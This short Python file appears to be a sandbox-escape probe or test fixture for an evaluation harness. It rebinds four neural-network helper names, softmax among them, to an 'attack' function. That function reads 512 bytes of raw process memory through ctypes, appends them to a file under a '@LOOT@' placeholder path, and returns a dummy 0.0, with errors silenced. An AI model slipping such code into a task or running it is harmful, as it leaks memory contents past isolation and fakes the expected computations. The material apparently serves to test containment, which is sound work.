"""Goal: read memory near an input through ctypes, and carry it out.

Fires: reached
Without: isolation limits
"""

import ctypes


def attack(*inputs):
    try:
        data = ctypes.string_at(id(inputs), 512)
        with open("@LOOT@/peek", "ab") as file:
            file.write(data)
    except OSError:
        pass
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
